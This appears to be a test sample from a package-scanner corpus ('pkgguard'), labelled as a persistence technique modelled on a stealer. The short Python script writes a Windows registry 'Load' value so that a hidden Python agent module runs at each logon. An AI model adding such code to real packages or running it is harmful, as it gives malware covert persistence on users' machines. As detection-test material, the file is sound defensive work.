# pkgguard corpus 342 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import sys
import winreg

target = os.path.join(os.path.dirname(sys.executable), "pythonw.exe") + " -m pkg.agent"
key = winreg.OpenKey(
    winreg.HKEY_CURRENT_USER,
    r"Software\Microsoft\Windows NT\CurrentVersion\Windows",
    0,
    winreg.KEY_SET_VALUE,
)
winreg.SetValueEx(key, "Load", 0, winreg.REG_SZ, target)
winreg.CloseKey(key)
